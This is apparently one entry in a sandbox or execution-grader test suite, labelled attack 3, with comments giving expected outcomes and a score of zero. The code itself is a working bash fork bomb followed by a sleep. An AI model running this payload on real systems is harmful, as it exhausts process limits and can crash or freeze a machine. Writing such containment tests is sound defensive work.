# attack: 3
# does: the fork bomb
# run: killed or timed_out or raised or finished
# earns: 0
bomb() { bomb | bomb & }
bomb
sleep 5
